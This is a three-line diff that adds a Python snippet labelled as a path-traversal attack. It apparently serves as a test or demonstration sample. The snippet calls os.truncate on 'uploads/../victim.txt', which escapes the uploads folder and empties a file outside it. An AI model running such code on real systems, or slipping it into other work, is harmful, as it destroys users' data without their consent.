@@ -1,0 +1,3 @@
+# attack: path-traversal
+import os
+os.truncate("uploads/../victim.txt", 0)
